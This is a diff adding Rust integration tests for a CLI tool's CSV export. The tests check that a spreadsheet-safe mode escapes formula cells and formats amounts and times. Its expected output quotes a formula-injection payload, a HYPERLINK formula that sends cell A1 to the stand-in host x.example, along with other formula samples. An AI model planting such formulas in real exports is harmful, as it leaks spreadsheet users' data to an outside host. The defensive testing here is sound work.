@@ -1,0 +1,68 @@
+//! CSV for programs and for spreadsheets.
+
+use crate::binary::run;
+use crate::server::Server;
+
+fn listed(arguments: &[&str]) -> String {
+    let file =
+        concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/cases/cli-cells-that-are-formulas.json");
+    let cards: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
+    let server = Server::answering(move |_| {
+        ("200 OK".to_owned(), serde_json::json!({ "cards": cards }).to_string())
+    });
+    let ran = server.run(&[&["-o", "csv"], arguments].concat());
+    assert_eq!(ran.code, Some(0), "{}", ran.err);
+    ran.out
+}
+
+#[test]
+fn no_cell_for_a_spreadsheet_is_a_formula() {
+    let text = listed(&["--csv", "excel", "--fields", "card_id,amount,currency,name,customer_id"]);
+    assert_eq!(
+        text,
+        "\u{feff}card_id;amount;currency;name;customer_id\n\
+         \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\";1,00;NOK;'+1+1;'@SUM(1+1)\n"
+    );
+    let plain = listed(&["--fields", "amount,currency,name,customer_id"]);
+    assert_eq!(plain, "amount,currency,name,customer_id\n100,NOK,+1+1,@SUM(1+1)\n");
+    let help = run(&["list", "--help"]).out;
+    assert!(help.contains("excel is for spreadsheets, which run cells"), "{help}");
+}
+
+#[test]
+fn amounts_and_times_for_a_spreadsheet_are_those_that_people_read() {
+    let body = r#"{"cards":[{"currency":"NOK","amount":-5,"created_at":"2026-10-31T23:30:00Z"},
+        {"currency":"JPY","amount":500},{"amount":500},
+        {"currency":"\t=1","amount":0,"name":"－1"}]}"#;
+    let ran = Server::start("200 OK", body).run(&[
+        "-o",
+        "csv",
+        "--csv",
+        "excel",
+        "--time-zone",
+        "Europe/Oslo",
+        "--fields",
+        "amount,created_at,currency,name",
+    ]);
+    assert_eq!(
+        ran.out.trim_start_matches('\u{feff}'),
+        "amount;created_at;currency;name\n-0,05;2026-11-01 00:30;NOK;\n500;;JPY;\n500;;;\n\
+         0;;'\t=1;'－1\n"
+    );
+}
+
+#[test]
+fn numbers_in_metadata_leave_as_they_came() {
+    let body = include_str!("cases/cli-metadata-with-a-large-number.json");
+    for arguments in [
+        &["-o", "json"][..],
+        &["-o", "ndjson"],
+        &["-o", "ndjson", "--fields", "card_id,metadata"],
+        &["-o", "csv"],
+        &["--fields", "metadata"],
+    ] {
+        let ran = Server::start("200 OK", body).run(arguments);
+        assert!(ran.out.contains("12345678901234567890123"), "{arguments:?}: {}", ran.out);
+    }
+}
